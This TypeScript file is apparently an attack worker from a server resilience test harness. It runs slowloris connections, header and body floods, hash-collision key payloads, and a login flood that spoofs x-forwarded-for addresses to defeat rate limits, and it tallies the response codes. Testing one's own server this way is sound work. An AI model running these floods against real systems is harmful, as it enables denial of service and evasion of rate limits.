// One attack on a server, in a process of its own: `attacker.ts <name> <url>`. It goes on until it is told to stop,
// and then tells what it was answered.
import { Agent, request } from 'node:http';
import { connect, type Socket } from 'node:net';

const [name = '', url = ''] = process.argv.slice(2);
const { hostname, port } = new URL(url);
/** How often each answer came, by its status; `broken` for a connection that was ended without one. */
const answers = new Map<string, number>();
let stopped = false;

function note(answer: string): void {
  answers.set(answer, (answers.get(answer) ?? 0) + 1);
}

/** Calls `act` so many times a second, for as long as the attack lasts. */
function steadily(perSecond: number, act: (count: number) => void): void {
  const begun = performance.now();
  let count = 0;
  setInterval(() => {
    const due = ((performance.now() - begun) / 1000) * perSecond;
    // A machine that is too slow for the rate sends what it can.
    for (let most = 100; count < due && most > 0 && !stopped; most--) act(count++);
  }, 10);
}

const agent = new Agent({ keepAlive: true, maxSockets: 256 });

function send(path: string, headers: Record<string, string>, body: string): void {
  const call = request(
    url + path,
    { agent, method: 'POST', headers: { ...headers, 'content-length': Buffer.byteLength(body) } },
    (response) => {
      note(String(response.statusCode));
      response.resume();
    },
  );
  call.on('error', () => note('broken'));
  call.end(body);
}

/** A connection that speaks as it likes; what the server answers first is noted. */
function speak(say: (socket: Socket) => void): Socket {
  const socket = connect({ host: hostname, port: Number(port) }, () => say(socket));
  let heard = false;
  socket.on('data', (bytes) => {
    if (!heard) note(bytes.toString('latin1').split(' ')[1] ?? 'unreadable');
    heard = true;
  });
  socket.on('error', () => {});
  socket.on('close', () => {
    if (!heard) note('broken');
  });
  return socket;
}

const json = { 'content-type': 'application/json' };
const form = { 'content-type': 'application/x-www-form-urlencoded' };

const attacks: Record<string, () => Promise<void> | void> = {
  'slow connections': () => {
    const open = (): void => {
      const socket = speak((open) =>
        open.write('POST /v2/token HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n'),
      );
      const drip = setInterval(() => socket.write('x'), 1_000);
      socket.on('close', () => {
        clearInterval(drip);
        // Whoever is cut off comes again: so many are open all the time.
        if (!stopped) setTimeout(open, 100);
      });
    };
    for (let count = 0; count < 2_000; count++) setTimeout(open, count);
  },
  'header flood': () => {
    const headers = Array.from({ length: 2_000 }, (_, index) => `x-${index}: ${'y'.repeat(20)}`).join('\r\n');
    steadily(200, () => {
      const socket = speak((open) => open.write(`GET / HTTP/1.1\r\nhost: localhost\r\n${headers}\r\n\r\n`));
      setTimeout(() => socket.destroy(), 5_000);
    });
  },
  'body flood': () => {
    const body = `{"text":"${'z'.repeat(4_000_000)}"}`;
    steadily(20, () => send('/v3.6/agent/action/list_chats', json, body));
  },
  'hash-flood keys': () => {
    // Keys that meet in a table of a weak hash, and numbers in the order that is worst for an array.
    const pairs = ['Aa', 'BB'];
    const keys = Array.from({ length: 2_400 }, (_, index) =>
      index % 2 === 0
        ? String((2_400 - index) * 65_537)
        : Array.from({ length: 12 }, (_, bit) => pairs[(index >> bit) & 1]).join(''),
    );
    const asJson = `{${keys.map((key) => `"${key}":1`).join(',')}}`;
    const asForm = keys.map((key) => `${key}=1`).join('&');
    steadily(50, (count) =>
      count % 2 === 0 ? send('/v2/token', json, asJson) : send('/oauth2/token', form, asForm),
    );
  },
  'wrong logins': async () => {
    const page = await fetch(`${url}/signin`);
    const cookie = page.headers
      .getSetCookie()
      .map((text) => text.split(';')[0])
      .join('; ');
    const token = /name="csrf_token" value="([^"]+)"/.exec(await page.text())?.[1] ?? '';
    // Ten thousand a minute, from everywhere, so that no limit by address or account helps.
    steadily(10_000 / 60, (count) => {
      const fields = { csrf_token: token, email: `nobody${count}@bench.test`, password: 'wrong one' };
      const from = { 'x-forwarded-for': `10.${(count >> 16) & 255}.${(count >> 8) & 255}.${count & 255}` };
      send('/signin', { ...form, cookie, ...from }, new URLSearchParams(fields).toString());
    });
  },
};

process.on('message', () => {
  stopped = true;
  process.send?.({ answers: Object.fromEntries(answers) }, () => process.exit(0));
});
process.on('disconnect', () => process.exit(0));
const attack = attacks[name];
if (!attack) throw new Error(`no attack is called ${name}; there are ${Object.keys(attacks).join(', ')}`);
await attack();
